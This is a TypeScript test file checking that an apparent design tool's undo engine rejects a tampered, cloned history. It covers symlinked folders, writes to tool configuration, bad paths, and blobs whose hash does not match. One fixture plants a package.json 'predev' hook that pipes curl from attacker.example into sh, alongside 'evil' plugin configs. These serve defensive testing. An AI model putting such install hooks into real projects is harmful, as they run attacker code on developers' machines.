/**
 * A stored undo history written by someone else (a cloned repository's `.plantation-studio/history/`), read by the
 * real engine on real files: a step may name only a source file of the project, the folders it removes only the
 * file's own folders in the project, never through a link; a stored text is written back only when it is the text
 * its hash names. Files in a folder beside the project keep every byte; nothing answers an internal error.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AppError } from '../../contracts/errors.js';
import { fileSnapshot } from '../../test-support/file-snapshot.js';
import { HISTORY_FOLDER } from './change-history.js';
import { studioSourceEditor } from '../studio-source-editor.js';
import type { SourceEditor } from './source-editor.js';
import { sha256 } from './source-text.js';

const PAGE = 'export function Page() {\n  return <main className="p-2">Trang</main>;\n}\n';
const PACKAGE = '{\n  "name": "victim",\n  "private": true\n}\n';
const PREDEV = '{\n  "name": "victim",\n  "private": true,\n  "scripts": { "predev": "curl https://attacker.example | sh" }\n}\n';

let base: string;
let root: string;
let outside: string;
const warnings: string[] = [];
let editor: SourceEditor | undefined;

interface PlantedFile {
  path: string;
  before: string | null;
  after: string | null;
  createdFolders?: string[];
}

/** Writes a history of canvas `c` with one done step changing `files`, and its blobs (each named by its text's hash). */
function plantStep(files: PlantedFile[], blobs: Record<string, string> = {}, ids: string | null = null): void {
  const folder = path.join(root, HISTORY_FOLDER);
  fs.mkdirSync(path.join(folder, 'blobs'), { recursive: true });
  const keep = (text: string) => fs.writeFileSync(path.join(folder, 'blobs', sha256(text)), text);
  const step = {
    id: 'planted', name: 'Planted', kind: 'addClass', at: new Date(0).toISOString(), ids: ids === null ? null : sha256(ids),
    files: files.map((file) => {
      if (file.before !== null) keep(file.before);
      if (file.after !== null) keep(file.after);
      return { path: file.path, beforeHash: file.before === null ? '' : sha256(file.before), afterHash: file.after === null ? '' : sha256(file.after), createdFolders: file.createdFolders ?? [] };
    }),
  };
  if (ids !== null) keep(ids);
  for (const [name, text] of Object.entries(blobs)) fs.writeFileSync(path.join(folder, 'blobs', name), text);
  fs.writeFileSync(path.join(folder, 'c.json'), JSON.stringify({ version: 1, canvasId: 'c', done: [step], undone: [], toldFull: false }));
}

function open(): SourceEditor {
  editor = studioSourceEditor({ root });
  return editor;
}

async function refusal(promise: Promise<unknown>): Promise<AppError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).not.toBe('INTERNAL');
  return error as AppError;
}

beforeEach(() => {
  base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-history-')));
  root = path.join(base, 'project');
  outside = path.join(base, 'outside');
  fs.mkdirSync(path.join(root, 'src'), { recursive: true });
  fs.mkdirSync(path.join(outside, 'empty'), { recursive: true });
  fs.writeFileSync(path.join(outside, 'kept.txt'), 'not the project\'s\n');
  fs.writeFileSync(path.join(root, 'src/page.tsx'), PAGE);
  fs.writeFileSync(path.join(root, 'package.json'), PACKAGE);
  warnings.length = 0;
});

afterEach(() => {
  editor?.dispose();
  editor = undefined;
  fs.rmSync(base, { recursive: true, force: true });
});

describe('a tampered step', () => {
  it('removing a folder through a linked folder: the step is set aside, the folder outside stays', async () => {
    fs.symlinkSync(outside, path.join(root, 'src', 'linked'));
    const made = 'export const Made = () => <p>made</p>;\n';
    fs.writeFileSync(path.join(root, 'src/made.tsx'), made);
    plantStep([{ path: 'src/made.tsx', before: null, after: made, createdFolders: ['src/linked/empty'] }]);
    const before = await fileSnapshot(outside);
    const engine = open();
    expect((await engine.status('c')).undoCount).toBe(0);
    expect((await refusal(engine.undo('c'))).code).toBe('NOTHING_TO_UNDO');
    expect(fs.existsSync(path.join(outside, 'empty'))).toBe(true);
    expect(await fileSnapshot(outside)).toEqual(before);
    expect(fs.readFileSync(path.join(root, 'src/made.tsx'), 'utf8')).toBe(made);
  });

  it.each([
    ['package.json', PREDEV, PACKAGE],
    ['vite.config.ts', 'export default { plugins: [evil()] };\n', null],
    ['tsconfig.app.json', '{ "compilerOptions": { "plugins": [{ "name": "evil" }] } }\n', null],
    ['src/.env.local', 'SECRET=1\n', null],
    ['.plantation-studio/history/d.json', '{}', null],
  ])('writing %s (tool configuration, not a source file): set aside at load, never written', async (file, planted, now) => {
    if (now === null) fs.rmSync(path.join(root, file), { force: true });
    plantStep([{ path: file, before: planted, after: now }]);
    const engine = open();
    expect((await engine.status('c')).undoCount).toBe(0);
    expect((await refusal(engine.undo('c'))).code).toBe('NOTHING_TO_UNDO');
    if (now === null) expect(fs.existsSync(path.join(root, file))).toBe(false);
    else expect(fs.readFileSync(path.join(root, file), 'utf8')).toBe(now);
    expect(fs.readdirSync(path.join(root, HISTORY_FOLDER)).filter((name) => name.startsWith('c.json.unreadable-'))).toHaveLength(1);
  });

  it.each([
    ['a folder', 'src'],
    ['a NUL', 'src/page\0.tsx'],
    ['a backslash', 'src\\page.tsx'],
  ])('with a path naming %s: set aside at load, the history answers', async (_name, file) => {
    plantStep([{ path: file, before: 'export const A = 1;\n', after: PAGE }]);
    const engine = open();
    expect(await engine.status('c')).toEqual({ undoCount: 0, redoCount: 0, done: [], undone: [] });
    expect((await refusal(engine.undo('c'))).code).toBe('NOTHING_TO_UNDO');
    expect(fs.readFileSync(path.join(root, 'src/page.tsx'), 'utf8')).toBe(PAGE);
  });

  it('naming a source file that is a folder on disk: the history answers, undo and redo are refused with a reason', async () => {
    fs.mkdirSync(path.join(root, 'src/folder.tsx'));
    fs.writeFileSync(path.join(root, 'src/folder.tsx/inside.txt'), 'kept\n');
    plantStep([{ path: 'src/folder.tsx', before: 'export const A = 1;\n', after: PAGE }]);
    const engine = open();
    expect((await engine.status('c')).done.map((item) => item.state)).toEqual(['changed-on-disk']);
    const error = await refusal(engine.undo('c'));
    expect(error.message).toMatch(/src\/folder\.tsx/);
    expect(fs.readFileSync(path.join(root, 'src/folder.tsx/inside.txt'), 'utf8')).toBe('kept\n');
  });
});

describe('a stored text that is not what its step names', () => {
  it('a text whose bytes do not hash to its name is never written back', async () => {
    const earlier = 'export function Page() {\n  return <main>earlier</main>;\n}\n';
    plantStep([{ path: 'src/page.tsx', before: earlier, after: PAGE }], { [sha256(earlier)]: 'export const Evil = () => <script>evil()</script>;\n' });
    const engine = open();
    const error = await refusal(engine.undo('c'));
    expect(error.code).toBe('SOURCE_CONFLICT');
    expect(fs.readFileSync(path.join(root, 'src/page.tsx'), 'utf8')).toBe(PAGE);
  });

  it('an id map that is not one: undo is refused with a reason, nothing written', async () => {
    const earlier = 'export function Page() {\n  return <main>earlier</main>;\n}\n';
    plantStep([{ path: 'src/page.tsx', before: earlier, after: PAGE }], {}, 'not JSON at all');
    const engine = open();
    await refusal(engine.undo('c'));
    expect(fs.readFileSync(path.join(root, 'src/page.tsx'), 'utf8')).toBe(PAGE);
  });
});
